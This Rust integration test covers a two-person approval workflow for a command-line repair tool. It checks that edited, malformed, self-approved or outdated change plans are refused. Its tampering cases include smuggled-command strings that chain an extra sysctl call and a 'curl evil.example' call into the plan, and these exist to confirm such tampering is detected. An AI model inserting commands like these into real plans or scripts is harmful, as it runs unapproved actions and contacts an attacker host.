//! A plan on its way to another person: read as it was written, or not at all.

use anyhow::{Result, ensure};

use super::two::{ANOTHER, Two};
use crate::fix::repair::BEFORE;
use crate::harness::Context;

pub(super) fn edited(context: &Context) -> Result<()> {
    let two = Two::under(context, ANOTHER)?;
    let operator = &two.repair.operator;
    let planned = two.plan()?;
    let yes = format!("--yes {}", planned.digest);
    for (from, to) in [
        (r#""to": "10""#, r#""to": "1""#),
        ("20 s → 10 s", "20 s → 19 s"),
        ("i-0abc1234def567890", "i-0abc1234def567891"),
        // What is sent stands in the plan, and is approved with it.
        ("sysctl -w ", "sysctl -w a=b; sysctl -w "),
        (r#""hold_s": 3"#, r#""hold_s": 1"#),
        (r#""approval": "another""#, r#""approval": "operator""#),
        // What the digest leaves out, because it goes on: the numbers of the proof.
        (
            " packets of new connections",
            " million packets of new connections",
        ),
        ("heeler fix ", "curl evil.example; heeler fix "),
    ] {
        ensure!(planned.file.contains(from), "no {from} in {}", planned.file);
        let file = planned.file.replace(from, to);
        let refused = two.approve(&file, &yes)?.expect_exit(5)?;
        refused
            .expect_stderr("error[plan-edited]")?
            .expect_stderr("the plan was edited")?;
        ensure!(refused.stdout.is_empty(), "{refused}");
    }
    for (file, code) in [
        ("{}", "plan-malformed"),
        (
            planned.file.get(..200).unwrap_or_default(),
            "plan-malformed",
        ),
        (
            &planned
                .file
                .replace(r#""heeler-plan": 1"#, r#""heeler-plan": 2"#),
            "plan-version",
        ),
    ] {
        let refused = two.approve(file, &yes)?.expect_exit(5)?;
        refused.expect_stderr(&format!("error[{code}]"))?;
    }
    // Without a terminal it is shown, and needs its digest.
    let shown = two.approve(&planned.file, "")?.expect_exit(5)?;
    shown
        .expect_stderr("ops/alice wants to apply shorten-time-wait")?
        .expect_stderr("20 s → 10 s")?
        .expect_stderr(&planned.digest)?
        .expect_stderr("error[approval-withheld]")?;
    let sent = two.approve(&planned.file, "--commands")?.expect_exit(5)?;
    sent.expect_stderr("sent for its way back:\n    ")?;
    ensure!(!shown.stderr.contains("sent for it"), "{shown}");
    let other = two.approve(&planned.file, "--yes 000000000000")?;
    other
        .expect_exit(5)?
        .expect_stderr("error[approval-withheld]")?;
    // Whoever asks is told at once that she can't approve it herself.
    let own = two
        .repair
        .heeler(&format!("approve {} {} {yes}", planned.short, two.named()))?;
    own.expect_exit(5)?.expect_stderr("error[approval-own]")?;
    let approved = two
        .approve(&planned.file, "")?
        .at_terminal(" to approve it:", |shown| {
            let before = shown.split(" to approve it:").next().unwrap_or_default();
            let digits = before.rsplit("Type ").next().unwrap_or_default();
            format!("{digits}\n")
        })?
        .expect_exit(0)?;
    approved.expect_stdout("heeler-approval1.")?;
    // A fix whose node has moved since is another plan.
    let approval = two.approval(&planned)?;
    operator.set_time_wait(BEFORE - 1)?;
    let words = format!(
        "--plan {} --approval {approval} --output json",
        planned.short
    );
    let (code, said) = two.refusal(two.fix(&words)?.expect_exit(5)?)?;
    ensure!(
        code == "plan-moved" && said.contains("19 s → 10 s"),
        "{code}: {said}"
    );
    operator.expect_time_wait(BEFORE - 1)
}
